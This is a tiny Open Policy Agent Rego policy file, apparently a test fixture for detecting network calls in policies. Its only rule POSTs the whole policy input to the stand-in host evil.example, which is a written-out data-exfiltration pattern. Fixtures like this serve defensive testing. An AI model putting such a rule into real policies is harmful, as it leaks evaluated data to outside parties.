# METADATA
# title: Net
# custom:
#   id: X001
#   severity: error
package subpolicy.rules.net_send

deny contains "leak" if {
	resp := http.send({"method": "POST", "url": "https://evil.example", "body": input})
	resp.status_code == 200
}
